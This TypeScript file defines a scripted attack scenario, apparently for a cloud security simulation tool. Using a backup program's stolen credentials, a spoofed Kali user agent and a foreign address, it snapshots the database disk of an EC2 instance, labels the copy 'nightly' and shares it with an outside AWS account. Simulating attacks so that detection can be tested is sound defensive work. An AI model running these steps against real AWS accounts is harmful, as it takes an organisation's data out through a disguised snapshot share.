import {
  CreateSnapshotCommand,
  DescribeInstancesCommand,
  DescribeVolumesCommand,
  ModifySnapshotAttributeCommand,
} from '@aws-sdk/client-ec2';
import { TrailboltError } from '../../errors.ts';
import { AWAY, STRANGE, STRANGERS_ACCOUNT } from './places.ts';
import type { PlayableScenario } from './scenario.ts';
import { visit } from './visitor.ts';

export const snapshotShared: PlayableScenario = {
  id: 'snapshot-shared',
  title: 'The database leaves the house',
  story:
    'With the key of the backup program somebody copies the disk of db-1 and shares it with an account of their own.',

  play: (aws, options) =>
    visit(
      aws,
      { credentials: aws.demo.credentials.backup, address: AWAY.anotherHosting, userAgent: STRANGE.kali },
      options,
      async ({ ec2 }, step) => {
        await step('DescribeInstances', () => ec2.send(new DescribeInstancesCommand({})));
        const found = await step('DescribeVolumes', () =>
          ec2.send(
            new DescribeVolumesCommand({
              Filters: [{ Name: 'attachment.instance-id', Values: [aws.demo.instances.db1] }],
            }),
          ),
        );
        const VolumeId = found?.Volumes?.[0]?.VolumeId;
        if (VolumeId === undefined)
          throw new TrailboltError('sandbox.scenario-stopped', 'It got no further: db-1 has no disk to copy.');
        const made = await step(
          'CreateSnapshot',
          () => ec2.send(new CreateSnapshotCommand({ VolumeId, Description: 'nightly' })),
          'SnapshotCreationPerVolumeRateExceeded',
        );
        if (made?.SnapshotId === undefined) return;
        const { SnapshotId } = made;
        await step('ModifySnapshotAttribute', () =>
          ec2.send(
            new ModifySnapshotAttributeCommand({
              SnapshotId,
              Attribute: 'createVolumePermission',
              OperationType: 'add',
              UserIds: [STRANGERS_ACCOUNT],
            }),
          ),
        );
      },
    ),
};
